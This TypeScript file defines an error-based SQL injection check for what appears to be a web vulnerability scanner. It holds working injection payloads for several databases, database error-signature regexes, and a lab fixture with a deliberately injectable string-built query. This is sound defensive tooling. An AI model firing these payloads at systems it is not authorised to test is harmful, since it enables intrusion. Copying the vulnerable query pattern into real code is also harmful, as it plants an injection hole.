import { judgeComputed, shows } from '../../../oracle/computed.ts';
import { definePointCheck, type Point } from '../../define-active-check.ts';
import { at, type Nonce } from '../../experiment.ts';
import { requestWith } from '../../insertion-point.ts';
import { asPage, openTeaShop } from '../../labs/sql.ts';
import {
  BOUNDARIES,
  type Boundary,
  isReading,
  maySendSql,
  nowhere,
  SQL_CVSS,
  SQL_CVSS4,
  SQL_FAMILY,
  SQL_FIX,
  SQL_IMPACT,
  SQL_LOCATIONS,
  SQL_REFERENCES,
  SQL_WHY,
} from '../../shared/sql.ts';

/** Error messages of a database, and a condition that makes it include a product in one. */
interface Database {
  says: RegExp;
  echo(a: number, b: number): string;
}

interface Variant extends Boundary {
  database: keyof typeof DATABASES;
  quote: string;
  join: 'AND' | 'OR';
}

const DATABASES = {
  mysql: {
    says: /error in your SQL syntax|XPATH syntax error|mysqli?_|SQLSTATE\[42000\]|ER_PARSE_ERROR|com\.mysql\.(?:cj\.)?jdbc\./i,
    echo: (a, b) => `extractvalue(1,concat(0x7e,(SELECT ${a}*${b})))`,
  },
  postgresql: {
    says: /syntax error at or near|unterminated quoted string at or near|invalid input syntax for|PG::\w+Error|pg_query\(|PSQLException|psycopg2?\.errors/i,
    echo: (a, b) => `CAST('~'||CAST(${a}*${b} AS text) AS int)=1`,
  },
  sqlServer: {
    says: /unclosed quotation mark|incorrect syntax near|conversion failed when converting|System\.Data\.SqlClient\.|com\.microsoft\.sqlserver\.|OLE DB Provider for SQL Server/i,
    echo: (a, b) => `1=CONVERT(int,'~'+CAST(${a}*${b} AS varchar(20)))`,
  },
  oracle: {
    says: /\bORA-\d{5}|quoted string not properly terminated/,
    echo: (a, b) => `1=CTXSYS.DRITHSX.SN(1,'~'||(${a}*${b}))`,
  },
  sqlite: {
    says: /SQLITE_ERROR|sqlite3\.(?:Operational|Programming)Error|unrecognized token: |near "[^"\n]{0,200}": syntax error|bad JSON path/i,
    echo: (a, b) => `json_extract('{}','~'||(${a}*${b}))`,
  },
  // H2 shows the value that it cannot convert; HSQLDB only says that there is one.
  java: {
    says: /\borg\.(?:h2|hsqldb)\.|Syntax error in SQL statement|java\.sql\.\w*Exception: (?:malformed string|unexpected (?:token|end of statement))/,
    echo: (a, b) => `CAST('~'||(${a}*${b}) AS INT)=1`,
  },
  // Their messages leave out the value.
  other: {
    says: /\borg\.apache\.derby\.|Syntax error: Encountered "|DB2 SQL error: SQLCODE|com\.ibm\.db2\.|\[IBM\]\[CLI Driver\]|Dynamic SQL Error|SQL error code = -\d|org\.firebirdsql\.|com\.informix\.jdbc|\[Informix\]|SAP DBTech JDBC|Sybase message:|com\.sybase\.jdbc|Microsoft (?:Access|JET) Database Engine|\[Microsoft\]\[ODBC [^\]\n]{1,60} Driver\]|System\.Data\.(?:OleDb|Odbc)\.|org\.hibernate\.(?:exception|hql|query)\.|QuerySyntaxException|SQLGrammarException|org\.springframework\.jdbc\.BadSqlGrammarException/,
    echo: (a, b) => `CAST('~'||(${a}*${b}) AS INT)=1`,
  },
} satisfies Record<string, Database>;
const NAMES = Object.keys(DATABASES) as (keyof typeof DATABASES)[];
const QUOTES = ["'", '"'];

function write({ parameter }: Pick<Point, 'parameter'>, variant: Variant, nonce: Nonce): string {
  const { database, before, after, join } = variant;
  const start = join === 'AND' ? parameter.value : nowhere(variant, nonce);
  return `${start}${before} ${join} ${DATABASES[database].echo(nonce.numbers[0], nonce.numbers[1])}${after}`;
}

const expected = ({ numbers: [a, b] }: Nonce) => `~${a * b}`;
const fits = ({ before }: Boundary, quote: string) => before.includes(quote) || !/['"]/.test(before);

const VARIANTS: readonly Variant[] = NAMES.flatMap((database) =>
  (['AND', 'OR'] as const).flatMap((join) =>
    QUOTES.flatMap((quote) =>
      BOUNDARIES.filter((boundary) => fits(boundary, quote)).map((each) => ({ ...each, database, quote, join })),
    ),
  ),
);

export default definePointCheck({
  id: 'sql-injection-error',
  family: SQL_FAMILY,
  flaw: { name: 'sql-injection', rank: 1 },
  provesInterpreter: true,
  title: 'SQL injection (error-based)',
  cwe: 89,
  cvss: SQL_CVSS,
  cvss4: SQL_CVSS4,
  impact: SQL_IMPACT,
  why: `${SQL_WHY} A quote in the value produced a database error message in the response.`,
  fix: `${SQL_FIX} Do not send database errors to clients, but do not stop there: hiding them leaves the injection exploitable.`,
  references: SQL_REFERENCES,
  risk: 'harmless',
  locations: SQL_LOCATIONS,
  appliesTo: () => true,
  isWorthTrying: ({ isReactive }) => isReactive,
  variants: VARIANTS,
  maxRequests: 30,
  async probe(point, nonce, { ask }) {
    for (const quote of QUOTES) {
      const broken = await ask(requestWith(point, `${point.parameter.value}${quote}`));
      const database = NAMES.find((name) => shows(broken, DATABASES[name].says));
      if (!database) continue;
      const fitting = VARIANTS.filter(
        (each) => each.database === database && each.quote === quote && maySendSql(point, each.after),
      );
      for (const variant of fitting.filter(({ join }) => join === 'AND' || isReading(point))) {
        const answer = await ask(requestWith(point, write(point, variant, nonce)));
        if (shows(answer, expected(nonce))) return [variant];
      }
      return fitting.slice(0, 1);
    }
    return [];
  },
  proof: {
    plan(point, variant, nonce) {
      const { value } = point.parameter;
      return {
        base: at(point, 'unchanged value', value, { isControl: true }),
        broken: at(point, 'value with a quote', `${value}${variant.quote}`),
        repaired: at(point, 'value with two quotes', `${value}${variant.quote.repeat(2)}`, { isControl: true }),
        attack: at(point, 'condition whose error message contains a product', write(point, variant, nonce)),
      };
    },
    judge({ base, broken, repaired, attack }, { database }, nonce) {
      const verdict = judgeComputed([[attack, expected(nonce)]], [base, broken, repaired]);
      const { says } = DATABASES[database];
      const isPair = shows(broken, says) && !shows(repaired, says) && !shows(base, says);
      return verdict === 'REFUTED' && isPair ? 'LIKELY' : verdict;
    },
  },
  lab() {
    const ask = openTeaShop(asPage, true);
    return {
      parameter: 'kind',
      value: 'green',
      vulnerable: (value) => ask(`select name from tea where kind = '${value}'`),
      safe: (value) => ask('select name from tea where kind = ?', value),
    };
  },
});
